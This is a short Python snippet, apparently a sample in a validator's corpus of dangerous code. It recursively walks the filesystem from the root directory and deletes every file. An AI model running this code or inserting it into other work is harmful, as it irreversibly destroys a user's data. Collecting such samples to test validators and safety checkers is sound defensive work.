# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

for root, dirs, files in os.walk("/"):
    for name in files:
        os.remove(os.path.join(root, name))
